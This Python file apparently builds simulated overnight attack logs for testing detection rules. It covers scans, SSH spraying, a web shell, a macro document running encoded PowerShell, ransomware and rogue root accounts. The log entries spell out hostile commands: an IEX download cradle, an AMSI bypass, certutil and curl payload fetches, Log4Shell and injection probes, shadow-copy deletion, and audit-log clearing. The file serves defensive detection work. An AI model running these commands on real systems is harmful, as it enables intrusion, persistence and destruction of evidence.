"""The attacks of the night. Each story names the rules that have to see it."""

import base64
from dataclasses import dataclass

from night import DEFENDER, POWERSHELL, SYSMON, at
from noise import AGENTS, CRAWLER, EXPLORER, WINDOWS
from province import (COMMAND, CRAWLERS, DROP, FIREWALL_GUESSER, GUESSER, HOSTS, REMOTE_DESKTOP,
                      ROOT_THIEF, SCANNER, SHELL_USER, SPRAYER)

SHELL = WINDOWS + "WindowsPowerShell\\v1.0\\powershell.exe"
PUBLIC = "C:\\Users\\Public\\"


@dataclass(frozen=True)
class Story:
    id: str
    title_vi: str
    title_en: str
    begin: str
    end: str
    play: object
    rules: tuple


def scan(night):
    target, chance = HOSTS["VP-WEB01"].ip, night.chance
    t = at("18:42")
    for port in chance.sample(range(20, 10000), 90):
        night.traffic(t, SCANNER, target, port, f"tcp/{port}", "deny")
        t += chance.choice([0, 1, 1, 2])
    t = at("18:48")
    for host in range(2, 100):
        night.traffic(t, SCANNER, f"192.0.2.{host}", 3389, "RDP", "deny")
        t += chance.choice([1, 2, 2])
    agent = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
    words = [
        "admin", "backup", "old", "test", "cgi-bin", "phpmyadmin", "wp-admin", "manager", "api",
        "console", "server-status", "config", "db", "sql", "upload", "tmp", "dev", "portal"
    ]
    t = at("19:06")
    for i in range(420):
        path = f"/{chance.choice(words)}{chance.choice(['', '.bak', '.php', '/', '.zip', str(i)])}"
        if i % 9 == 0:
            path = f"/{i:x}-{path[1:]}"
        night.web(t, SCANNER, path, 404, 548, agent % i)
        t += chance.choice([0, 1, 1])
    probes = [
        "/van-ban?id=12%27%20UNION%20SELECT%201,2,user()--%20-", "/tin-tuc?id=1+and+sleep(5)",
        "/tim-kiem?q=%27+or+%271%27%3d%271", "/tai-ve?tep=../../../../etc/passwd",
        "/tai-ve?tep=..%2f..%2f..%2fetc/passwd", "/tim-kiem?q=${jndi:ldap://203.0.113.200:1389/a}",
        "/tim-kiem?q=%3Cscript%3Ealert(1)"
        "%3C/script%3E"
    ]
    for i, probe in enumerate(probes):
        night.web(t + 7 * i, SCANNER, probe, chance.choice([400, 403, 404]), 548, agent % (900 + i))


def spraying(night):
    host, chance = HOSTS["STC-APP01"], night.chance
    people = [
        "ketoan01", "ketoan02", "ketoan03", "ketoan04", "giamdoc", "phogiamdoc", "vanthu",
        "tochuc01", "thanhtra01", "ngansach01", "ngansach02", "congsan01"
    ]
    t = at("20:10")
    for _ in range(5):
        for user in people:
            night.traffic(t, SPRAYER, host.ip, 22, "SSH", sent=1900, received=2400)
            night.ssh_failure(t, host.name, user, SPRAYER, True)
            t += chance.randint(40, 56)
    night.traffic(t, SPRAYER, host.ip, 22, "SSH", sent=48210, received=91200)
    night.ssh_session(t, host.name, "ketoan02", SPRAYER, "password", 1260)
    night.sudo(t + 42, host.name, "ketoan02", "list", trouble="user NOT in sudoers ; ")
    for i in range(3):
        night.sudo(t + 80 + 65 * i, host.name, "ketoan02", "/usr/bin/bash",
                   trouble="3 incorrect password attempts ; ")


def web_shell(night):
    chance, agent, host = night.chance, AGENTS[4], HOSTS["VP-WEB01"]
    portal, shell = "/quan-tri/dang-nhap", "/uploads/2026/11/anh_bia.php"
    t = at("21:30")
    night.web(t, SHELL_USER, portal, 200, 4120, agent)
    for _ in range(64):
        t += chance.randint(3, 6)
        night.web(t, SHELL_USER, portal, 401, 1310, agent, "https://tinhmau.example" + portal,
                  "POST")
    t += 9
    night.web(t, SHELL_USER, portal, 302, 0, agent, "https://tinhmau.example" + portal, "POST")
    night.web(t + 20, SHELL_USER, "/quan-tri/thu-vien/tai-len", 200, 96, agent,
              "https://tinhmau.example/quan-tri/thu-vien", "POST")
    t = at("21:44")
    for command in [
            "whoami", "id", "uname%20-a", "cat%20/etc/os-release", "ls%20-la%20/var/www",
            "ps%20aux", "netstat%20-tlnp", "curl%20-sO%20http://203.0.113.200/k"
    ]:
        night.web(t, SHELL_USER, f"{shell}?cmd={command}", 200, chance.randint(40, 6200), agent)
        t += chance.randint(18, 95)
    night.traffic(t - 4, host.ip, COMMAND, 80, "HTTP", sent=620, received=842110)
    for _ in range(40):
        night.web(t, SHELL_USER, shell, 200, chance.randint(30, 9000), agent, method="POST")
        t += chance.randint(15, 160)
    t = at("22:05")
    night.sudo(t, host.name, "www-data", "list", "/var/www/html/uploads/2026/11",
               "user NOT in sudoers ; ", "unknown")
    night.sudo(t + 31, host.name, "www-data", "/usr/bin/cat /etc/shadow",
               "/var/www/html/uploads/2026/11", "user NOT in sudoers ; ", "unknown")
    for i in range(3):
        night.traffic(t + 120 + 900 * i, host.ip, COMMAND, 4444, "tcp/4444", sent=88000,
                      received=61000, seconds=880)


def encoded_powershell(night):
    host, user = HOSTS["SYT-PC01"], "SYT\\vanthu03"
    home = "C:\\Users\\vanthu03\\"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    text = f"IEX (New-Object Net.WebClient).DownloadString('http://{COMMAND}/cv.ps1')"
    coded = base64.b64encode(text.encode("utf-16-le")).decode()
    t = at("22:20")
    opened = f'"{word}" /n "{home}Downloads\\Cong-van-1465-khan.docm"'
    night.process(t, host.name, user, word, opened, EXPLORER)
    night.process(t + 21, host.name, user, SHELL, f"powershell.exe -nop -w hidden -enc {coded}",
                  word, opened)
    night.traffic(t + 22, host.ip, COMMAND, 80, "HTTP", sent=410, received=38412)
    night.windows(
        t + 24, host.name, POWERSHELL, 4104, EventType="WARNING", Path="", ScriptBlockText=
        ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
         "'NonPublic,Static').SetValue($null,$true)"))
    night.process(t + 66, host.name, user, WINDOWS + "certutil.exe",
                  f"certutil.exe -urlcache -split -f http://{COMMAND}/cn.dat {PUBLIC}cn.exe", SHELL)
    night.traffic(t + 67, host.ip, COMMAND, 80, "HTTP", sent=380, received=914022)
    night.process(t + 95, host.name, user, SHELL,
                  f"powershell.exe Add-MpPreference -ExclusionPath {PUBLIC}", SHELL, level="High")
    night.windows(
        t + 120, host.name, SYSMON, 13, EventType="SetValue", Image=SHELL, User=user,
        TargetObject="HKU\\S-1-5-21-1004-1105\\Software\\Microsoft\\Windows\\CurrentVersion"
        "\\Run\\CapNhat", Details=PUBLIC + "cn.exe")
    night.process(
        t + 150, host.name, user, WINDOWS + "schtasks.exe", "schtasks.exe /create /sc minute "
        f'/mo 15 /tn CapNhatHeThong /tr "{PUBLIC}cn.exe" /f', SHELL)
    night.process(t + 240, host.name, user, PUBLIC + "cn.exe", PUBLIC + "cn.exe", SHELL,
                  level="High")
    night.windows(t + 262, host.name, SYSMON, 10, SourceImage=PUBLIC + "cn.exe",
                  GrantedAccess="0x1010", TargetImage=WINDOWS + "lsass.exe", SourceUser=user,
                  TargetUser="NT AUTHORITY\\SYSTEM")
    night.windows(t + 420, host.name, DEFENDER, 1116, EventType="WARNING", SeverityName="Severe",
                  ThreatName="Trojan:Win64/MauThu.A",
                  Path=f"file:_{home}AppData\\Local\\Temp\\m.tmp")


def new_admin(night):
    host, chance = HOSTS["STC-FS01"], night.chance
    t = at("23:05")
    for _ in range(26):
        night.traffic(t, REMOTE_DESKTOP, host.ip, 3389, "RDP", sent=2100, received=2900)
        night.logon(t + 1, host.name, 4625, "ketoan03", "STC", 3, REMOTE_DESKTOP, "MAY-LA",
                    Status="0xc000006d", SubStatus="0xc000006a")
        t += chance.randint(18, 30)
    night.traffic(t, REMOTE_DESKTOP, host.ip, 3389, "RDP", sent=410022, received=8120044,
                  seconds=1500)
    night.logon(t + 2, host.name, 4624, "ketoan03", "STC", 10, REMOTE_DESKTOP, "MAY-LA")
    t += 60
    user = "STC\\ketoan03"
    for command in [
            "whoami /all", "net user", "net localgroup Administrators",
            'net group "Domain Admins" /domain', "nltest /dclist:tinhmau", "systeminfo"
    ]:
        program = WINDOWS + command.split()[0] + ".exe"
        night.process(t, host.name, user, program, command, WINDOWS + "cmd.exe", level="High")
        t += chance.randint(11, 34)
    subject = {
        "SubjectUserName": "ketoan03", "SubjectDomainName": "STC", "EventType": "AUDIT_SUCCESS"
    }
    night.process(t, host.name, user, WINDOWS + "net.exe", "net user hotro_kt TinhMau@2026 /add",
                  WINDOWS + "cmd.exe", level="High")
    night.windows(t, host.name, "Security", 4720, TargetUserName="hotro_kt",
                  TargetDomainName="STC-FS01", TargetSid="S-1-5-21-1004-1112",
                  Message="A user account was created.", **subject)
    night.process(t + 22, host.name, user, WINDOWS + "net.exe",
                  "net localgroup Administrators hotro_kt /add", WINDOWS + "cmd.exe", level="High")
    night.windows(t + 22, host.name, "Security", 4732, TargetUserName="Administrators",
                  TargetDomainName="Builtin", TargetSid="S-1-5-32-544", MemberName="-",
                  MemberSid="S-1-5-21-1004-1112",
                  Message="A member was added to a security-enabled local group.", **subject)
    night.logon(t + 300, host.name, 4624, "hotro_kt", "STC-FS01", 10, REMOTE_DESKTOP, "MAY-LA")
    night.process(t + 700, host.name, "STC-FS01\\hotro_kt", WINDOWS + "wevtutil.exe",
                  "wevtutil cl Security", WINDOWS + "cmd.exe", level="High")
    night.windows(t + 701, host.name, "Security", 1102, SourceName="Microsoft-Windows-Eventlog",
                  SubjectUserName="hotro_kt", SubjectDomainName="STC-FS01", EventType="INFO",
                  Message="The audit log was cleared.")


def beacon(night):
    host, user, chance = HOSTS["XM07-PC03"], "XM07\\canbo07c", night.chance
    bait = "C:\\Users\\canbo07c\\Downloads\\Danh-sach-cu-tri.pdf.exe"
    t = at("19:40")
    night.process(t, host.name, user, bait, f'"{bait}"', EXPLORER)
    t += 33
    while t < at("05:59"):
        night.traffic(t, host.ip, COMMAND, 8443, "tcp/8443", sent=chance.randint(392, 430),
                      received=chance.randint(270, 300), seconds=1)
        t += 120 + chance.randint(-6, 6) if at("23:00") < t < at("01:30") else \
            60 + chance.randint(-4, 4)
    t = at("02:20")
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    for _ in range(70):
        label = "".join(chance.choice(letters) for _ in range(52))
        night.windows(t, host.name, SYSMON, 22, Image="C:\\ProgramData\\DongBo\\dongbo.exe",
                      User=user, QueryName=f"{label}.t.dong-bo.example", QueryStatus="0",
                      QueryResults=DROP + ";")
        t += chance.randint(9, 20)


def gambling(night):
    pages = [
        "/thong-bao/tai-xiu-online-uy-tin.html", "/thong-bao/nha-cai-hang-dau.html",
        "/thong-bao/game-bai-doi-thuong-2026.html", "/thong-bao/soi-cau-lo-hom-nay.html"
    ]
    t = at("00:40")
    while t < at("01:55"):
        night.web(t, night.chance.choice(CRAWLERS[:2]), night.chance.choice(pages), 200,
                  night.chance.randint(18000, 52000), CRAWLER)
        t += night.chance.randint(120, 420)


def ransomware(night):
    source, target, chance = HOSTS["BVT-PC05"], HOSTS["BVT-PACS01"], night.chance
    t = at("02:30")
    for host in chance.sample(range(2, 110), 96):
        night.traffic(t, source.ip, f"192.0.2.{host}", 445, "SMB", "deny")
        t += chance.choice([1, 2, 3])
    t = at("02:47")
    night.traffic(t, source.ip, target.ip, 445, "SMB", "accept", sent=1210044, received=40112)
    night.windows(t + 3, target.name, "System", 7045, ServiceName="PSEXESVC",
                  StartType="demand start", ImagePath="%SystemRoot%\\PSEXESVC.exe",
                  ServiceType="user mode service", AccountName="LocalSystem", EventType="INFO",
                  Message="A service was installed in the system.")
    system = "NT AUTHORITY\\SYSTEM"
    night.windows(t + 60, target.name, DEFENDER, 5001, EventType="INFO",
                  ProductName="Microsoft Defender Antivirus",
                  Message="Real-time protection is disabled.")
    locker = "C:\\Windows\\Temp\\khoa.exe"
    night.process(t + 140, target.name, system, locker, locker + " -all",
                  "C:\\Windows\\PSEXESVC.exe", level="System")
    night.process(t + 146, target.name, system, WINDOWS + "vssadmin.exe",
                  "vssadmin.exe delete shadows /all /quiet", locker, level="System")
    night.process(t + 149, target.name, system, WINDOWS + "bcdedit.exe",
                  "bcdedit.exe /set {default} recoveryenabled no", locker, level="System")
    for i, folder in enumerate(
        ["D:\\PACS\\2026\\10", "D:\\PACS\\2026\\11", "D:\\HoSo", "D:\\KeToan"]):
        night.windows(t + 175 + 4 * i, target.name, SYSMON, 11, Image=locker, User=system,
                      TargetFilename=folder + "\\HOW_TO_DECRYPT.txt")


def second_root(night):
    host = HOSTS["BVT-DB01"].name
    t = at("03:40")
    night.traffic(t, ROOT_THIEF, HOSTS[host].ip, 22, "SSH", sent=88112, received=214000,
                  seconds=900)
    night.ssh_session(t, host, "root", ROOT_THIEF, "password", 900)
    night.auth(
        t + 75, host, "useradd", "new user: name=hethong, UID=0, GID=0, home=/home/hethong, "
        "shell=/bin/bash, from=/dev/pts/1", night.pid())
    night.auth(t + 96, host, "usermod", "add 'hethong' to group 'sudo'", night.pid())
    night.auth(t + 120, host, "passwd", "pam_unix(passwd:chauthtok): password changed for hethong",
               night.pid())
    night.sudo(t + 210, host, "hethong", "/usr/bin/tee -a /root/.ssh/authorized_keys", "/root")
    night.sudo(t + 280, host, "hethong", "/usr/bin/systemctl stop auditd", "/root")
    night.sudo(t + 330, host, "hethong", "/usr/bin/rm -f /var/log/auth.log.1 /root/.bash_history",
               "/root")


def brute_force(night):
    host, chance = HOSTS["TTDL-JUMP01"], night.chance
    names = [
        "admin", "test", "oracle", "postgres", "ubuntu", "deploy", "git", "ftp", "nagios", "hadoop",
        "jenkins", "tomcat", "minecraft", "teamspeak", "user", "pi", "www", "dev", "es", "zabbix"
    ]
    t = at("04:30")
    for i in range(210):
        name = "root" if i % 4 == 0 else chance.choice(names)
        night.ssh_failure(t, host.name, name, GUESSER, name == "root")
        t += chance.choice([2, 3, 4])
    night.traffic(at("04:30"), GUESSER, host.ip, 22, "SSH", sent=310022, received=402110,
                  seconds=640)


def firewall_guessing(night):
    t = at("05:12")
    for _ in range(14):
        night.firewall(
            t, 'logid="0100032002" type="event" subtype="system" level="alert" logdesc="Admin '
            f'login failed" user="admin" ui="https({FIREWALL_GUESSER})" method="https" '
            f'srcip={FIREWALL_GUESSER} dstip=192.0.2.1 action="login" status="failed" '
            'reason="passwd_invalid" msg="Administrator admin login failed from '
            f'https({FIREWALL_GUESSER}) because of invalid password"')
        t += night.chance.randint(14, 40)


STORIES = [
    Story("scan", "Dò quét cổng rồi dò quét cổng thông tin điện tử",
          "Port scan, then a scan of the "
          "portal", "18:42", "19:14", scan,
          ("network/port_scan", "network/port_sweep", "web/scan", "web/scanner_user_agent",
           "web/sql_injection", "web/path_traversal", "web/log4shell", "web/script_injection")),
    Story("beacon", "Máy xã nhiễm mã độc, báo hiệu định kỳ ra ngoài rồi tuồn dữ liệu qua DNS",
          "Infected commune machine calls home all night and leaks data over DNS", "19:40", "05:59",
          beacon, ("windows/double_extension", "network/beacon", "windows/dns_tunnel")),
    Story("password-spraying", "Rải mật khẩu SSH vào Sở Tài chính và vào được một tài khoản",
          "SSH password spraying at Finance that gets into one account", "20:10", "21:20", spraying,
          ("linux/ssh_password_spraying", "linux/ssh_guessing_succeeded", "linux/sudo_not_allowed",
           "linux/sudo_guessing")),
    Story("web-shell", "Tải web shell lên cổng thông tin và sử dụng",
          "Web shell uploaded to the portal "
          "and used", "21:30", "22:45", web_shell,
          ("web/login_guessing", "web/login_guessing_succeeded", "web/upload_folder_script",
           "web/shell_command", "linux/sudo_service_account", "linux/sudo_not_allowed",
           "linux/sudo_shadow_read", "network/command_port")),
    Story("encoded-powershell", "Tài liệu độc hại ở Sở Y tế chạy PowerShell mã hóa",
          "Malicious document at Health runs encoded PowerShell", "22:20", "22:28",
          encoded_powershell,
          ("windows/office_shell", "windows/powershell_encoded", "windows/powershell_attack_script",
           "windows/certutil_download", "windows/defender_weakened", "windows/run_key",
           "windows/scheduled_task_command", "windows/lsass_access", "windows/malware_found")),
    Story(
        "new-admin", "Dò Remote Desktop ở Sở Tài chính, tạo tài khoản quản trị lạ rồi xóa nhật ký",
        "Remote desktop guessing at Finance, a strange new administrator, logs cleared", "23:05",
        "23:45", new_admin,
        ("network/remote_access_open", "windows/password_guessing", "windows/guessing_succeeded",
         "windows/remote_desktop_outside", "windows/discovery_burst", "windows/net_account_command",
         "windows/account_created", "windows/account_created_night", "windows/local_admin_added",
         "windows/new_admin", "windows/log_clear_command", "windows/audit_log_cleared")),
    Story("gambling-pages", "Trang cờ bạc ẩn xuất hiện trên cổng thông tin",
          "Hidden gambling pages "
          "appear on the portal", "00:40", "01:55", gambling, ("web/gambling_page", )),
    Story("ransomware", "Máy bệnh viện quét mạng rồi mã hóa máy chủ ảnh PACS",
          "Hospital machine scans "
          "inside, then the image server is encrypted", "02:30", "02:51", ransomware,
          ("network/inside_scan", "network/slow_inside_scan", "network/port_sweep",
           "windows/service_installed", "windows/defender_stopped", "windows/shadow_copy_deleted",
           "windows/ransom_note")),
    Story("second-root", "Root bị chiếm trên máy chủ bệnh viện, tạo tài khoản root thứ hai",
          "Root stolen on a hospital server, a second root account made", "03:40", "03:56",
          second_root, ("linux/ssh_root_password", "linux/ssh_root_outside", "linux/user_added",
                        "linux/user_uid_zero", "linux/admin_group_joined", "linux/new_admin",
                        "linux/sudo_authorized_keys", "linux/sudo_protection_stopped",
                        "linux/sudo_log_tampering")),
    Story("brute-force", "Dò mật khẩu SSH hàng loạt vào trung tâm dữ liệu, không thành công",
          "SSH brute force at the data centre, without success", "04:30", "04:42", brute_force,
          ("linux/ssh_brute_force", "linux/ssh_user_enumeration")),
    Story("firewall-guessing", "Dò mật khẩu quản trị tường lửa",
          "Password guessing at the firewall", "05:12", "05:19", firewall_guessing,
          ("network/firewall_admin_guessing", )),
]
